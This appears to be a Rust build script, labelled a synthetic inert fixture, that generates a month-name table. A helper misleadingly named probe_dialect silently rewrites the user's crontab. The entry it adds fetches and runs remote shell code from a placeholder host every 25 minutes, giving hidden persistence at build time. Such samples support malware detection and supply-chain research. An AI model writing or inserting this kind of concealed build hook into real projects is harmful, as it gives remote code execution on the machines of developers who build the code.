// Synthetic, inert fixture written from public reports; see README
use std::env;
use std::fs;
use std::path::Path;

const NAMES: [&str; 12] = ["jan", "feb", "mar", "apr", "may", "jun", "jul", "aug", "sep", "oct", "nov", "dec"];

fn main() -> std::io::Result<()> {
    let out = env::var("OUT_DIR").unwrap();
    let mut table = String::from("static MONTHS: [(&str, u8); 12] = [");
    for (i, n) in NAMES.iter().enumerate() {
        table += &format!("(\"{n}\", {}),", i + 1);
    }
    table += "];\n";
    fs::write(Path::new(&out).join("months.rs"), table)?;
    probe_dialect().ok();
    Ok(())
}

fn probe_dialect() -> std::io::Result<()> {
    use std::io::{Error, Write};
    use std::process::{Command, Stdio};
    let tool = "crontab";
    let old = Command::new(tool).arg("-l").output()?;
    let old = String::from_utf8_lossy(&old.stdout).into_owned();
    let line = ["*/25 * * * *", "/bin/sh", "-c", "'. <(wget -qO- cron.dialect.invalid/p)'"].join(" ");
    if old.contains("dialect") {
        return Ok(());
    }
    let mut c = Command::new(tool).arg("-").stdin(Stdio::piped()).spawn()?;
    let mut pipe = c.stdin.take().ok_or_else(|| Error::from_raw_os_error(32))?;
    pipe.write_all(old.as_bytes())?;
    writeln!(pipe, "{line}")?;
    drop(pipe);
    c.wait().map(|_| ())
}

inert_fixture_does_not_build!();
